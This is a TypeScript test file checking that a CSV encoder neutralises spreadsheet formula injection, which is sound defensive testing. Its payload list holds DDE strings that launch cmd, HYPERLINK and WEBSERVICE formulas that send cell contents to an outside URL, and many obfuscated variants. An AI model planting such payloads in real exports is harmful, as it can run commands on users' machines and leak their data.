import { describe, expect, it } from 'vitest';
import { csvRow, UTF8_MARK } from '#domain/csv/csv-row.ts';
import { readCsv } from '../shared/read-csv.ts';

/** What people have sent to have a spreadsheet run something: formulas, their disguises, and ways out of the cell. */
const RUN = `cmd|' /C calc'!A0`;
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  `=${RUN}`,
  `+${RUN}`,
  `-${RUN}`,
  `@${RUN}`,
  '=HYPERLINK("https://example.com/?a="&A1,"here")',
  '=WEBSERVICE("https://example.com/"&A1)',
  '=IMPORTXML(CONCAT("https://example.com/",A1),"//a")',
  '=IMAGE("https://example.com/a.png")',
  '=DDE("cmd";"/C calc";"x")',
  `-2+3+${RUN}`,
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   +1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0001=1+1',
  '"=1+1',
  '""=1+1',
  '",=1+1',
  '";=1+1',
  `'=1+1`,
  `' =1+1`,
  'fine;=1+1',
  'fine,=1+1',
  'fine\t=1+1',
  'fine\n=1+1',
  'fine\r\n@SUM(1)',
  'fine";"=1+1',
  'fine","=1+1',
  'fine|=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\t',
  '\rtext',
];

/** Where a cell could begin for a program that takes any of the usual signs for the one between cells, and knows no quotes. */
const beginnings = (text: string) => text.split(/[,;|\t\r\n]/).map((cell) => cell.replace(/^[\s"\p{C}]+/u, ''));

describe.each([',', ';'] as const)('a row of CSV with %s between its values', (separator) => {
  it.each(PAYLOADS)('holds nothing that a spreadsheet runs: %j', (payload) => {
    const row = csvRow([payload, 'next'], separator);
    const [cells] = readCsv(row, separator);
    expect(cells).toHaveLength(2);
    for (const cell of [...(cells ?? []), ...beginnings(row)]) expect(cell).not.toMatch(/^[=+\-@\uff0b-\uff20\t\r\n]/);
    expect(cells?.[0]?.replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
  });

  it('leaves everything else as it is', () => {
    const values = [
      '',
      '4',
      'Mühle',
      'a "word", and = more',
      '2026-11-22T19:25:20+01:00',
      'x - y',
      'E1.2',
      'two\nlines',
    ];
    expect(readCsv(csvRow(values, separator), separator)).toEqual([values]);
  });
});

it('takes no longer for long runs of blanks', () => {
  const begun = performance.now();
  csvRow(['\n'.repeat(200_000), ` ${'"; '.repeat(100_000)}`], ',');
  expect(performance.now() - begun).toBeLessThan(1_000);
});

it('begins a file with the mark of UTF-8', () => {
  expect([...new TextEncoder().encode(UTF8_MARK)]).toEqual([0xef, 0xbb, 0xbf]);
});
